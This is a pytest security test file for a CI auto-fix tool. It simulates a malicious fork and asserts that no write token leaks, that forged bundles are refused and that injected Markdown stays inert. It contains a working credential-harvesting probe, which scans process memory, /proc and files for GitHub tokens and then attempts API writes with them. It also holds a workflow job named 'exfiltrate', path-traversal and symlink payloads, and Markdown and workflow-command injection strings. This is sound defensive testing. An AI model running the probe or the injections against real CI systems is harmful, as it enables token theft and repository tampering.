"""End to end, the attacker is the fork: a pull request from ``eve/widgets`` whose code runs in the heal job
(``fork-policy: rules`` or ``heal``), with the two jobs as the reusable workflow runs them.

* Its code (a ``setup.py`` the set-up command runs, a ``conftest.py`` verification imports) looks for the
  write token in its environment, every ``/proc/*/environ`` and ``cmdline``, the healer's memory, git config
  and every file of the sandbox and of ``/tmp`` it can read, and finds none: the write token is on no
  machine its code runs on. The same search finds a decoy planted in a readable file (the search works),
  and the fork's code writes a report (it ran).
* It writes to GitHub with whatever token it finds: every write is refused, nothing is posted.
* A forged or swapped heal bundle (digests recomputed, as a forger would) is refused by the deliver job with
  the reason: another pull request's, an older commit's, a workflow file, a symlink, a diff over 4 MiB, a
  binary patch, a path out of the tree or into ``.git``.
* What a forged bundle says about the heal (the commands that ran, the set-up, the verification's reason, why
  nothing was delivered) is posted in the healer's voice without a live mention, raw HTML or a block of its
  own.
* Suggestion text that would inject Markdown, mentions or workflow commands stays inside fences, and no job
  prints it as a workflow command.
* A fork's failing test under ``fork-policy: heal`` gets the agent's fix as suggestions that apply to its
  head, and the patch.
* The workflows hand the bundle only from a run's heal job to the same run's deliver job (read statically).

The token search runs under ``isolation: user`` where this machine allows it (as tests/e2e/test_attacks.py
does) and always under ``isolation: none``, where the fork's code runs as the healer's user and may find the
heal job's read-only token: that test asserts about the write token only, and that the read token writes
nothing.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import secrets
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from harness import BROKEN_ADD, TOKEN, agent_reports, failing_test_log, lint_log, write_agent
from test_attacks import HOW, PYTHON, REQUIRED
from twojobs import READ_TOKEN, attempts, deliver_job, heal_job

from healer.change.bundle import BUNDLE_NAME, HealBundle, read_bundle, write_bundle
from healer.demo.running import HealerRun
from healer.demo.sample import BASE_FILES, LINT_PR_FILES
from healer.demo.sandbox import Sandbox, git
from healer.demo.standin import StandIn
from healer.demo.state import Pull, Run

ROOT = Path(__file__).resolve().parents[2]
FORK = "eve/widgets"
USER_ISOLATION = bool(HOW and PYTHON) or REQUIRED
RULES = {"fork-policy": "rules"}


# -- the fork ------------------------------------------------------------------------------------------------


def _fork(box: Sandbox) -> None:
    if FORK not in box.forks:
        box.add_fork(FORK)


def _sentinel_conftest(sentinel: Path) -> str:
    """A ``conftest.py`` that leaves ``sentinel`` behind whenever anything imports it (ruff-clean)."""
    return f"import pathlib\n\npathlib.Path({str(sentinel)!r}).write_text('ran')\n"


def _fork_lint_pull(box: Sandbox, sentinel: Path, branch: str = "patch-1") -> tuple[Pull, Run, str]:
    """A fork's pull request whose lint failed on a real ruff finding; its ``conftest.py`` writes
    ``sentinel`` when verification imports it."""
    _fork(box)
    files = {**LINT_PR_FILES, "conftest.py": _sentinel_conftest(sentinel)}
    sha = box.commit(branch, files, "Add double()", remote=FORK, base="origin/main")
    pull = box.open_pull(branch, sha, head_repo=FORK, author="eve")
    run = box.add_run(pull, [("lint", "failure", lint_log(box))])
    return pull, run, sha


def _fork_test_pull(box: Sandbox, sentinel: Path) -> tuple[Pull, Run, str]:
    """A fork's pull request whose test failed for real (``a - b``); the ``conftest.py`` it adds after CI's
    run of pytest writes ``sentinel`` when the heal job's verification runs its tests."""
    _fork(box)
    branch = "simplify-add"
    box.commit(branch, {"widgets/calc.py": BROKEN_ADD}, "Simplify add()", remote=FORK, base="origin/main")
    log = failing_test_log(box)
    sha = box.commit(branch, {"conftest.py": _sentinel_conftest(sentinel)}, "Add a conftest", remote=FORK)
    pull = box.open_pull(branch, sha, head_repo=FORK, author="eve", title="Simplify add()")
    run = box.add_run(pull, [("test (3.12)", "failure", log)])
    return pull, run, sha


def _artifact(bundle: HealBundle, where: Path) -> str:
    """The folder the deliver job downloads the artifact to, holding ``bundle`` with valid digests."""
    where.mkdir(parents=True)
    write_bundle(where / BUNDLE_NAME, bundle)
    return str(where)


def _nothing_posted(box: Sandbox, refs: dict[str, str]) -> None:
    """No fix pull request, no review, no branch or ref moved on ``origin``."""
    assert not box.standin.created_pulls(box.repo)
    assert not box.standin.reviews
    assert box.origin_refs() == refs


# -- 1 and 2: the fork's code looks for the write token and writes with what it finds ------------------------

# What the fork's code runs: it searches, then writes to GitHub with every token it found and with none. It
# knows the write token's shape (the prefix of the needle), never its value; tokens it found are reported as
# digests, so that the report (a readable file) holds none.
PROBE = r'''"""Packaging helpers."""

import glob
import hashlib
import json
import os
import pathlib
import re
import stat
import subprocess
import sys
import urllib.error
import urllib.request

HERE = pathlib.Path(__file__).resolve().parent
CONFIG = json.loads((HERE / "probe.json").read_text())
PHASE = sys.argv[1]
NEEDLES = {name: re.compile(pattern.encode()) for name, pattern in CONFIG["needles"].items()}
ANY_TOKEN = re.compile(rb"gh[pousr]_[A-Za-z0-9]{30,}")
SCOPE = CONFIG["scope"]
found = {name: [] for name in NEEDLES}
tokens = set()
memory = []


def read(path, limit=2 << 20):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    with os.fdopen(fd, "rb") as handle:
        if not stat.S_ISREG(os.fstat(handle.fileno()).st_mode):
            return b""  # a fifo or a device would block or never end
        return handle.read(limit)


def look(where, data):
    for name, needle in NEEDLES.items():
        if needle.search(data):
            found[name].append(where)
    tokens.update(match.group() for match in ANY_TOKEN.finditer(data))


def mine(pid):
    if not SCOPE:
        return True
    try:
        return os.readlink(f"/proc/{pid}/cwd").startswith(SCOPE)
    except OSError:
        return False


def healers():
    pids = []
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            if b"healer\x00run" in read(proc + "/cmdline") and mine(proc.rsplit("/", 1)[1]):
                pids.append(int(proc.rsplit("/", 1)[1]))
        except OSError:
            pass
    return pids


def scan_memory(pid):
    try:
        maps = read(f"/proc/{pid}/maps").decode()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            memory.append(pid)
            budget = 128 << 20
            for line in maps.splitlines():
                fields = line.split()
                if "rw" not in fields[1] or budget <= 0:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(min(end - start, budget))
                except (OSError, OverflowError, ValueError):
                    continue
                budget -= len(data)
                look(f"/proc/{pid}/mem", data)
    except OSError:
        pass


look("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
for proc in glob.glob("/proc/[0-9]*"):
    if not mine(proc.rsplit("/", 1)[1]):
        continue
    for name in ("environ", "cmdline"):
        try:
            look(f"{proc}/{name}", read(f"{proc}/{name}"))
        except OSError:
            pass
for pid in healers():
    scan_memory(pid)
for where in (".", CONFIG["workspace"]):
    argv = ["git", "-C", where, "config", "--list", "--show-origin"]
    try:
        done = subprocess.run(argv, capture_output=True, timeout=20, check=False)
        look(f"git config in {where}", done.stdout)
    except (OSError, subprocess.TimeoutExpired):
        pass
seen = set()
fresh = [os.path.join("/tmp", n) for n in os.listdir("/tmp") if n not in CONFIG["tmp_before"]]
for root in CONFIG["roots"] + (fresh if CONFIG["tmp"] else []):
    for directory, _, names in os.walk(root):
        for name in names:
            path = os.path.join(directory, name)
            if path in seen or len(seen) > 30000:
                continue
            seen.add(path)
            try:
                look(path, read(path))
            except OSError:
                pass


def write(method, path, body, token):
    headers = {"Accept": "application/vnd.github+json", "Content-Type": "application/json"}
    if token:
        headers["Authorization"] = "token " + token.decode()
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(CONFIG["api"] + path, data=data, headers=headers, method=method)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError:
        return 0


writes = []
for token in [None, *sorted(tokens)[:5]]:
    digest = hashlib.sha256(token).hexdigest()[:16] if token else None
    for method, path, body in CONFIG["writes"]:
        writes.append({"op": f"{method} {path}", "token": digest, "status": write(method, path, body, token)})
line = {"phase": PHASE, "uid": os.getuid(), "found": found, "memory": memory, "healers": healers()}
line.update(tokens=sorted(hashlib.sha256(t).hexdigest()[:16] for t in tokens), writes=writes)
with open(pathlib.Path(CONFIG["report_dir"]) / "report.jsonl", "a") as handle:
    handle.write(json.dumps(line) + "\n")
'''
SETUP_PY = (
    'import subprocess\nimport sys\n\nsubprocess.run([sys.executable, "probe.py", "setup"], check=True)\n'
)
CONFTEST = (
    'import subprocess\nimport sys\n\nsubprocess.run([sys.executable, "probe.py", "conftest"], check=True)\n'
)


def _digest(token: str) -> str:
    return hashlib.sha256(token.encode()).hexdigest()[:16]


def _needle(text: str) -> str:
    """A pattern for ``text`` that does not match its own spelling (the fork's files hold the pattern, and
    the search reads them)."""
    return f"[{text[0]}]{re.escape(text[1:])}"


@pytest.fixture
def public_box(standin: StandIn) -> Iterator[Sandbox]:
    """A sandbox in a directory every user can traverse (mode 0755 all the way), like a runner's."""
    root = Path(tempfile.mkdtemp(prefix="ci-healer-e2e-"))
    root.chmod(0o755)
    try:
        yield Sandbox.create(root / "gh", standin, files=BASE_FILES)
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize(
    "isolation",
    [
        pytest.param(
            "user",
            marks=pytest.mark.skipif(not USER_ISOLATION, reason="no isolation: user here (see test_attacks)"),
            id="isolation-user",
        ),
        pytest.param("none", id="isolation-none"),
    ],
)
def test_the_forks_code_finds_no_write_token_and_writes_nothing_with_what_it_finds(
    public_box: Sandbox, read_token: str, isolation: str
) -> None:
    box = public_box
    box.isolation = isolation
    python = PYTHON if isolation == "user" and PYTHON else sys.executable
    report_dir = Path(tempfile.mkdtemp(prefix="ci-healer-report-", dir=box.root))
    report_dir.chmod(0o777)  # the one place the fork's code may write: its report
    # the control: a string of the write token's shape, in a file any user may read
    decoy = TOKEN[: len("ghs_E2eSecretToken")] + "Decoy" + secrets.token_hex(8)
    planted = box.root / "planted" / "notes.txt"
    planted.parent.mkdir(mode=0o755)
    planted.write_text(f"deploy key: {decoy}\n")
    planted.chmod(0o644)
    _fork(box)
    box.commit("patch-1", LINT_PR_FILES, "Add double()", remote=FORK, base="origin/main")
    log = lint_log(box)  # the failure CI saw, on the fork's change (before the attack's files)
    basic = base64.b64encode(b"x-access-token:" + TOKEN[: len("ghs_E2eSecretToken")].encode()).decode()
    # This machine is shared: other sessions' healers hold the write token, and their logs in /tmp may print
    # it. So the fork's code searches every file of this sandbox and what appeared in /tmp since this commit
    # (the throwaway user's folder, the healer's temporary files); under isolation none, where it runs as the
    # healer's user and could read the other sessions' processes, only this sandbox's processes and files.
    scope = "" if isolation == "user" else str(box.root)
    config = {
        "report_dir": str(report_dir),
        "scope": scope,
        "roots": [str(box.root)],
        "tmp": not scope,
        "tmp_before": sorted(os.listdir("/tmp")),
        "workspace": str(box.workspace),
        "api": box.standin.api_url,
        # the write token by its prefix, and as git's basic-auth header carries it
        "needles": {
            "write": _needle("ghs_E2eSecretToken") + "[A-Za-z0-9]{8,}",
            "write-basic": _needle(basic),
        },
        "writes": [
            ["POST", f"/repos/{box.repo}/issues/1/comments", {"body": "eve was here"}],
            ["POST", f"/repos/{box.repo}/pulls/1/reviews", {"event": "APPROVE", "body": "LGTM"}],
            ["PATCH", f"/repos/{box.repo}/pulls/1", {"title": "eve was here"}],
            ["POST", f"/repos/{box.repo}/issues/1/labels", {"labels": ["approved"]}],
            ["DELETE", f"/repos/{box.repo}/git/refs/heads/main", None],
        ],
    }
    files = {
        "probe.py": PROBE,
        "probe.json": json.dumps(config),
        "setup.py": SETUP_PY,
        "conftest.py": CONFTEST,
    }
    sha = box.commit("patch-1", files, "Add packaging", remote=FORK)
    pull = box.open_pull("patch-1", sha, head_repo=FORK, author="eve")
    run = box.add_run(pull, [("lint", "failure", log)])
    refs = box.origin_refs()

    healed = heal_job(
        box,
        run,
        {**RULES, "setup-command": f"{python} setup.py", "verify-command": f'{python} -c "import conftest"'},
    )

    reports = [json.loads(line) for line in (report_dir / "report.jsonl").read_text().splitlines()]
    # the control: the fork's code ran in the heal job, in set-up and in verification, and its search works
    assert {r["phase"] for r in reports} == {"setup", "conftest"}, healed.stdout[-4000:]
    for report in reports:
        assert report["found"]["write"] == [str(planted)], report["found"]  # the decoy, and nothing else
        assert report["found"]["write-basic"] == []
        assert report["healers"], "the fork's code saw the heal job's healer"
        if isolation == "user":
            assert report["uid"] != os.geteuid()
            assert report["memory"] == [] and report["tokens"] == [_digest(decoy)]  # not even the read token
    if isolation == "none":
        # as the healer's user it reads the healer's environment and memory: the read token, no write token
        assert _digest(READ_TOKEN) in {t for r in reports for t in r["tokens"]}
        assert _digest(TOKEN) not in {t for r in reports for t in r["tokens"]}
        assert any(r["memory"] for r in reports)
    # every write it tried was refused: 403 with the read token (GitHub's answer to a read-only token), 401
    # with none or the decoy; GitHub holds nothing it wrote
    writes = [w for r in reports for w in r["writes"]]
    assert len(writes) >= 10 and {w["status"] for w in writes} <= {401, 403}, writes
    with_read = [w["status"] for w in writes if w["token"] == _digest(READ_TOKEN)]
    if isolation == "none":
        assert with_read and set(with_read) == {403}
    else:
        assert with_read == []  # it found no token to write with
    assert box.standin.comments(box.repo, pull.number) == []
    assert pull.title == "Add double()" and pull.labels == []
    _nothing_posted(box, refs)
    # the only writes the stand-in saw were the fork's, all refused; the healer healed the lint failure
    refused = [r for r in healed.requests if r.method != "GET"]
    assert refused and {r.status for r in refused} <= {401, 403}
    assert healed.outputs["decision"] == "healed", healed.stdout[-3000:]


# -- 3: forged and swapped bundles ---------------------------------------------------------------------------

# the deliver job's pull request and run, and the bundle it is handed
Forged = tuple[Pull, Run, HealBundle]
Forgery = Callable[[Sandbox, Pull, Run, HealBundle, Path], Forged]


def _another_pull(box: Sandbox, pull: Pull, run: Run, bundle: HealBundle, where: Path) -> Forged:
    """Pull request B's deliver job gets pull request A's bundle (a real one, digests and all)."""
    other, other_run, _ = _fork_lint_pull(box, where / "b-ran", branch="patch-2")
    return other, other_run, bundle


def _moved_on(box: Sandbox, pull: Pull) -> str:
    """The fork pushes a new commit to its pull request between the heal and the deliver job."""
    sha = box.push_to_pull(pull, {"README.md": "# widgets\n\nNow with doubling.\n"}, "Document double()")
    # GitHub moves refs/pull/N/head with it, as the sandbox does
    assert git(box.origin, "rev-parse", f"refs/pull/{pull.number}/head").strip() == sha
    return sha


def _older_commit(box: Sandbox, pull: Pull, run: Run, bundle: HealBundle, where: Path) -> Forged:
    """The heal job's bundle, delivered after the pull request moved on: the run is stale."""
    _moved_on(box, pull)
    return pull, run, bundle


def _replayed(box: Sandbox, pull: Pull, run: Run, bundle: HealBundle, where: Path) -> Forged:
    """The old commit's bundle, replayed into the new commit's run (its run id forged, digests recomputed)."""
    _moved_on(box, pull)
    newer = box.add_run(pull, [("lint", "failure", lint_log(box))])
    return pull, newer, replace(bundle, run_id=newer.id)


def _a_diff(change: Callable[[Path], None]) -> Forgery:
    """The bundle of this very heal, its diff replaced by what ``git diff --cached --binary --no-renames``
    writes for ``change`` made to the head: a forger's diff, well formed."""

    def forge(box: Sandbox, pull: Pull, run: Run, bundle: HealBundle, where: Path) -> Forged:
        clone = where / "forge"
        git(box.root, "clone", "--quiet", "--no-checkout", str(box.seed), str(clone))
        git(clone, "checkout", "--quiet", pull.head_sha)
        change(clone)
        git(clone, "add", "-A")
        return pull, run, replace(bundle, diff=git(clone, "diff", "--cached", "--binary", "--no-renames"))

    return forge


def _renamed(path: str) -> Forgery:
    """The bundle of this very heal, its diff's path replaced by ``path``."""

    def forge(box: Sandbox, pull: Pull, run: Run, bundle: HealBundle, where: Path) -> Forged:
        return pull, run, replace(bundle, diff=bundle.diff.replace("widgets/calc.py", path))

    return forge


def _workflow(tree: Path) -> None:
    ci = tree / ".github" / "workflows" / "ci.yml"
    ci.write_text(
        ci.read_text() + "  exfiltrate:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env\n"
    )


def _symlink(tree: Path) -> None:
    (tree / "widgets" / "settings.py").symlink_to("/etc/passwd")


def _huge(tree: Path) -> None:
    (tree / "widgets" / "table.py").write_text("x = 1\n" * 800_000)  # 4.8 MB, and a diff larger still


def _binary(tree: Path) -> None:
    (tree / "widgets" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)))


@pytest.mark.parametrize(
    ("forge", "says"),
    [
        pytest.param(_another_pull, "pull request", id="the-bundle-of-another-pull-request"),
        pytest.param(_older_commit, "stale head", id="a-bundle-for-an-older-commit"),
        pytest.param(_replayed, "stale", id="an-older-commits-bundle-replayed-into-the-new-run"),
        pytest.param(_a_diff(_workflow), "workflow", id="a-diff-touching-the-ci-workflow"),
        pytest.param(_a_diff(_symlink), "symlink", id="a-symlink"),
        pytest.param(_a_diff(_huge), "more than the 4194304", id="a-diff-over-4-mib"),
        pytest.param(_a_diff(_binary), "binary", id="a-binary-patch"),
        pytest.param(_renamed("../outside.py"), "climbs out of the tree", id="a-path-with-dot-dot"),
        pytest.param(_renamed(".git/hooks/post-checkout"), "inside .git", id="a-path-inside-dot-git"),
    ],
)
def test_the_deliver_job_refuses_a_forged_or_swapped_bundle_of_a_fork(
    box: Sandbox, read_token: str, tmp_path: Path, forge: Forgery, says: str
) -> None:
    sentinel = tmp_path / "fork-code-ran"
    pull, run, _ = _fork_lint_pull(box, sentinel)
    healed = heal_job(box, run, {**RULES, "verify-command": f'{sys.executable} -c "import conftest"'})
    # the control: the fork's code ran in the heal job, whose bundle holds its real change
    assert sentinel.read_text() == "ran" and healed.outputs["decision"] == "healed"
    bundle = read_bundle(Path(healed.outputs["bundle-path"]))
    assert "-import os" in bundle.diff
    target, target_run, forged = forge(box, pull, run, bundle, tmp_path)
    refs = box.origin_refs()

    delivered = deliver_job(box, target_run, _artifact(forged, tmp_path / "artifact"), RULES)

    _nothing_posted(box, refs)
    comments = box.standin.comments(box.repo, target.number)
    marks = attempts(box, target.number)
    if says == "stale head":
        # the deliver job's own plan sees the new head: the run is stale, nothing is done, claimed or spent
        assert delivered.outputs["decision"] == "skipped" and "skipped: stale head" in delivered.stdout
        assert marks == [] and comments == []
        return
    [attempt] = marks
    assert attempt.result == "refused", delivered.stdout[-3000:]  # type: ignore[attr-defined]
    assert delivered.outputs["decision"] == "skipped"
    [comment] = [c for c in comments if "delivered nothing" in c.body]
    assert says in comment.body.lower(), comment.body[-1500:]
    assert "suggested change" not in comment.body and "git apply" not in comment.body


# What the heal job says about its heal, as a forger rewrites it: the fork's code, running as the healer's
# user (isolation: none), edits the bundle before the upload and recomputes the digests. The deliver job shows
# these fields in the review and the run's comment as the heal job's word.
FORGED_TEXT = (
    'ok ``x``\n\n# Approved\n<img src="http://evil.example/p.png">\n</details>\n@mona\n::set-output name=x::y'
)
_SETUP = {"commands": ["pip install ."], "failed": "", "exit_code": 0, "timed_out": False, "output": ""}
# healer/change/bundling.py result_of only defuses mentions and links in these two, and the deliver job posts
# them unfenced with their line breaks: a forged one starts a heading, raw HTML or a </details> of its own


def _say(**fields: Any) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda record: {**record, **fields}


@pytest.mark.parametrize(
    "forge",
    [
        pytest.param(_say(fix_commands=[FORGED_TEXT]), id="the-fix-commands"),
        pytest.param(_say(setup={**_SETUP, "commands": [FORGED_TEXT]}), id="the-set-up-commands"),
        pytest.param(
            _say(setup={**_SETUP, "failed": FORGED_TEXT, "exit_code": 1, "output": "no gizmo"}),
            id="the-failed-set-up-command",
        ),
        pytest.param(
            # the deliver job names the heal job's report as that job's word: its command, in a code span
            _say(
                verification={
                    "state": "passed",
                    "command": FORGED_TEXT,
                    "exit_code": 0,
                    "output": "",
                    "reason": FORGED_TEXT,
                }
            ),
            id="the-verification-command",
        ),
        pytest.param(
            _say(ready=False, why_not=FORGED_TEXT),
            id="why-nothing-was-delivered",
        ),
    ],
)
def test_a_forged_record_cannot_post_markdown_or_mentions_in_the_healers_voice(
    box: Sandbox, read_token: str, tmp_path: Path, forge: Callable[[dict[str, Any]], dict[str, Any]]
) -> None:
    sentinel = tmp_path / "fork-code-ran"
    pull, run, _ = _fork_lint_pull(box, sentinel)
    healed = heal_job(box, run, {**RULES, "verify-command": f'{sys.executable} -c "import conftest"'})
    assert sentinel.read_text() == "ran"  # the control: the fork's code ran where the bundle was written
    bundle = read_bundle(Path(healed.outputs["bundle-path"]))
    forged = replace(bundle, record=forge(dict(bundle.record)))

    deliver_job(box, run, _artifact(forged, tmp_path / "artifact"), RULES)

    bodies = [r.body for r in box.standin.reviews]
    bodies += [c.body for c in box.standin.comments(box.repo, pull.number)]
    assert any("evil.example" in body for body in bodies)  # the forged text reached GitHub
    for body in bodies:
        outside = _outside_fences(body)
        assert not re.search(r"(?<![\w`])@[A-Za-z0-9]", "\n".join(outside)), body[-1500:]  # no live mention
        # it stays on the healer's line: no heading, HTML block, closed <details> or paragraph of its own
        started = [line for line in outside if line.startswith(("# Approved", "<img", "@", "::"))]
        assert not started, body[-1500:]
        assert _details_balanced(outside), body[-1500:]


# -- 4 and 5: the agent's fix of a fork's failing test, as suggestions ---------------------------------------

HEAL = {"fork-policy": "heal", "verify-command": f"{sys.executable} -m pytest -q -p no:cacheprovider"}

# Lines of a "fix" that would be Markdown, mentions, images and workflow commands if printed or posted bare.
INJECTION = [
    "```",
    "@mona please merge this",
    "![x](http://evil.example/pixel.png)",
    "::set-output name=x::y",
    "::add-mask::eve-was-here",
    "##[set-output name=leak;]eve",
    "</details>",
    "<!-- ci-healer:v1 {} -->",
    "~~~",
]
# The parts that must never be live: searched for outside fences and in the runner's commands.
LIVE = ["@mona", "evil.example", "set-output", "eve-was-here"]


def _fixed(text: str, extra: str) -> str:
    return text.replace("a - b", "a + b") + extra


def _agent(where: Path, extra: str, say: str) -> str:
    """A real subprocess agent: fixes ``a - b``, appends ``extra`` to the file, prints ``say`` (its notes)."""
    body = (
        "calc = pathlib.Path('widgets/calc.py')\n"
        f"calc.write_text(calc.read_text().replace('a - b', 'a + b') + {extra!r})\n"
        f"print({say!r})\n"
        "report(cwd=os.getcwd())\n"
    )
    return write_agent(where, body)


def _apply_review(text: str, comments: tuple[Any, ...]) -> str:
    """``text`` with a review's suggestions applied as *Commit suggestion* does: each comment's first fence
    (however many backticks open it) replaces its lines."""
    lines = text.split("\n")
    for comment in sorted(comments, key=lambda c: c.line, reverse=True):
        body = comment.body.split("\n")
        opener = next(i for i, b in enumerate(body) if re.match(r"`{3,}suggestion$", b))
        ticks = body[opener].removesuffix("suggestion")
        closer = next(i for i in range(opener + 1, len(body)) if body[i].strip() == ticks)
        start = comment.start_line or comment.line
        lines[start - 1 : comment.line] = body[opener + 1 : closer]
    return "\n".join(lines)


_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})")


def _outside_fences(markdown: str) -> list[str]:
    """The lines of ``markdown`` outside fenced code blocks, read as CommonMark does: a fence closes only on a
    line of its own character, at least as long, with nothing but spaces after it."""
    outside: list[str] = []
    fence = ""
    for line in markdown.split("\n"):
        if fence:
            closing = re.fullmatch(r" {0,3}(`{3,}|~{3,})[ \t]*", line)
            if closing and closing[1][0] == fence[0] and len(closing[1]) >= len(fence):
                fence = ""
            continue
        opened = _FENCE.match(line)
        if opened and not (opened[1][0] == "`" and "`" in line[opened.end() :]):
            fence = opened[1]
            continue
        outside.append(line)
    return outside


def _details_balanced(outside: list[str]) -> bool:
    """Each ``<details>`` block the healer opens (HTML starts a block only at the start of a line) is closed
    by its own ``</details>``, and none more."""
    opened = [line for line in outside if line.lstrip().startswith("<details>")]
    return len(opened) == len([line for line in outside if line.lstrip().startswith("</details>")])


def _workflow_commands(stdout: str) -> list[str]:
    """The lines the runner reads as workflow commands: outside ``::stop-commands::<token>`` …
    ``::<token>::``, a line starting with ``::`` or holding ``##[``."""
    commands: list[str] = []
    resume = ""
    for line in stdout.split("\n"):
        text = line.rstrip("\r").lstrip()
        if resume:
            resume = "" if text == resume else resume
            continue
        if text.startswith("::stop-commands::"):
            resume = f"::{text.removeprefix('::stop-commands::')}::"
        elif text.startswith("::") or "##[" in text:
            commands.append(text)
    return commands


def _heal_and_deliver(
    box: Sandbox, tmp_path: Path, extra: str, say: str
) -> tuple[Pull, str, HealerRun, HealerRun, Path]:
    sentinel = tmp_path / "fork-tests-ran"
    pull, run, sha = _fork_test_pull(box, sentinel)
    agent_dir = tmp_path / "agent"
    inputs = {**HEAL, "agent-command": _agent(agent_dir, extra, say)}
    healed = heal_job(box, run, inputs)
    # the control: the agent ran in the heal job, and so did the fork's tests (its conftest.py)
    assert agent_reports(agent_dir) and sentinel.read_text() == "ran", healed.stdout[-3000:]
    assert {r.method for r in healed.requests} == {"GET"}
    assert healed.outputs["decision"] == "healed", healed.stdout[-3000:]
    bundle = Path(healed.outputs["bundle-path"])
    refs = box.origin_refs()

    delivered = deliver_job(box, run, _artifact(read_bundle(bundle), tmp_path / "artifact"), inputs)

    assert box.origin_refs() == refs and not box.standin.created_pulls(box.repo)
    assert delivered.outputs["decision"] == "healed", delivered.stdout[-3000:]
    [attempt] = attempts(box, pull.number)
    # the heal job's verification is its word: the deliver job, which ran none of it, records `unverified`
    assert attempt.result == "unverified"  # type: ignore[attr-defined]
    return pull, sha, healed, delivered, bundle


def test_a_fork_failing_test_under_fork_policy_heal_gets_the_agents_fix_as_suggestions_and_a_patch(
    box: Sandbox, read_token: str, tmp_path: Path
) -> None:
    pull, sha, _, _, bundle = _heal_and_deliver(box, tmp_path, "", "fixed add(): a + b")

    [review] = box.standin.reviews
    assert review.number == pull.number and review.event == "COMMENT" and review.commit_id == sha
    head = box.show(sha, "widgets/calc.py")
    assert "a - b" in head
    # the suggestions, applied with Commit suggestion, make exactly the agent's change
    assert _apply_review(head, review.comments) == _fixed(head, "")
    assert {c.path for c in review.comments} == {"widgets/calc.py"}
    assert "which is its word" in review.body and "Commit suggestion" in review.body
    [comment] = [c for c in box.standin.comments(box.repo, pull.number) if "suggested change" in c.body]
    assert "a fork's, which the healer cannot push to" in comment.body and "git apply" in comment.body
    assert "-    return a - b" in comment.body and "+    return a + b" in comment.body
    # the patch in the comment is the heal job's change, and applies to the fork's head with git apply
    patch = json.loads(bundle.read_text(encoding="utf-8"))["diff"]
    assert patch in comment.body
    where = tmp_path / "apply"
    git(box.root, "clone", "--quiet", "--no-checkout", str(box.seed), str(where))
    git(where, "checkout", "--quiet", sha)
    (where / "fix.patch").write_text(patch, encoding="utf-8")
    git(where, "apply", "fix.patch")
    assert (where / "widgets" / "calc.py").read_text(encoding="utf-8") == _fixed(head, "")


def test_suggestion_text_from_a_fork_cannot_inject_markdown_mentions_or_workflow_commands(
    box: Sandbox, read_token: str, tmp_path: Path
) -> None:
    # a module string holds the lines, so the "fix" still passes the tests; the agent says them too
    extra = '\n\nNOTE = """\n' + "\n".join(INJECTION) + '\n"""\n'
    pull, sha, healed, delivered, _ = _heal_and_deliver(box, tmp_path, extra, "\n".join(INJECTION))

    [review] = box.standin.reviews
    head = box.show(sha, "widgets/calc.py")
    # the control: the text reached the suggestion verbatim (it is the fix), so applying it is the fix
    assert _apply_review(head, review.comments) == _fixed(head, extra)
    comments = [c.body for c in box.standin.comments(box.repo, pull.number)]
    assert any("::set-output name=x::y" in body for body in comments)  # the patch holds it, fenced
    for where, body in (
        [("review", review.body)]
        + [(f"suggestion {c.line}", c.body) for c in review.comments]
        + [(f"comment {i}", body) for i, body in enumerate(comments)]
    ):
        outside = _outside_fences(body)
        bare = "\n".join(outside)
        assert not [live for live in LIVE if live in bare], f"{where}: {bare[-1500:]}"
        assert not re.search(r"(?<![\w`])@[A-Za-z0-9]", bare), f"{where}: an unfenced mention"
        assert not [line for line in outside if line.lstrip().startswith("::")], where
        # the healer's own <details> blocks stay balanced: the fork's </details> closed none of them
        assert _details_balanced(outside), where
    # no job printed the fork's lines as a workflow command (only between stop-commands and its token)
    for job, result in [("heal", healed), ("deliver", delivered)]:
        commands = _workflow_commands(result.stdout)
        assert not [c for c in commands if any(live in c for live in LIVE)], f"{job}: {commands}"
        assert not [c for c in commands if c.startswith(("::set-output", "##["))], f"{job}: {commands}"
    # the agent's notes (which said the same lines) are in the run's comment, fenced as untrusted output
    [done] = [body for body in comments if "Notes from the agent" in body]
    assert "eve-was-here" in done.split("Notes from the agent", 1)[1]


# -- 6: the workflows hand the bundle from a run's heal job to the same run's deliver job --------------------

BUNDLE_ARTIFACT = "ci-healer-bundle-${{ github.run_id }}-${{ github.run_attempt }}"


def _steps(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in job["steps"] if str(s.get("uses", "")).startswith(action)]


def _healer_step(job: dict[str, Any]) -> dict[str, Any]:
    [step] = [s for s in job["steps"] if (s.get("with") or {}).get("stage") in ("heal", "deliver")]
    return step


@pytest.mark.parametrize(
    "workflow",
    [
        pytest.param(".github/workflows/ci-healer.yml", id="reusable-workflow"),
        pytest.param("examples/ci-healer.yml", id="example"),
    ],
)
def test_the_deliver_job_takes_the_bundle_only_from_its_own_runs_heal_job(workflow: str) -> None:
    jobs = yaml.safe_load((ROOT / workflow).read_text(encoding="utf-8"))["jobs"]
    heal, deliver = jobs["heal"], jobs["deliver"]
    # the heal job: read permissions only, its own token, no App token and no write token anywhere in it
    assert heal["permissions"] and set(heal["permissions"].values()) == {"read"}, heal["permissions"]
    assert not _steps(heal, "actions/create-github-app-token")
    heal_text = yaml.safe_dump(heal)
    assert not re.search(r"secrets\.(CI_HEALER_TOKEN|CI_HEALER_APP_\w+)\b|steps\.app-token", heal_text)
    assert _healer_step(heal)["with"]["stage"] == "heal"
    assert _healer_step(heal)["with"]["github-token"] == "${{ github.token }}"
    for checkout in _steps(heal, "actions/checkout"):
        assert checkout["with"]["persist-credentials"] is False
        assert "head" not in str(checkout["with"].get("ref", "")), checkout  # never the pull request's code
